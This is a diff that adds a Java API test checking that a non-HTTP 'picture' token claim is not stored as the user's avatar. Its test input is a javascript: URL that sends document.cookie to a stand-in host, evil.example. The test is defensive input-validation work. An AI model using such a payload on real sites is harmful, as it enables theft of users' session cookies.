@@ -46,6 +46,16 @@ class StudyApiTest extends EndToEndTest {
     }
 
     @Test
+    void a_picture_claim_that_is_no_http_url_is_not_kept_as_the_avatar() {
+        String id = unique("me");
+        Response me = get("/api/me", token(claims -> claims.subject(id).claim("name", "Eve").claim("picture",
+                "javascript:fetch('https://evil.example/'+document.cookie)")));
+
+        assertThat(me.status()).isEqualTo(200);
+        assertThat(me.json().get("user").get("avatar").isNull()).isTrue();
+    }
+
+    @Test
     void me_follows_the_name_claim_of_the_latest_token() {
         String id = unique("renamed");
         assertThat(get("/api/me", token(id, "First Name")).json().path("user").path("name").stringValue()).isEqualTo("First Name");
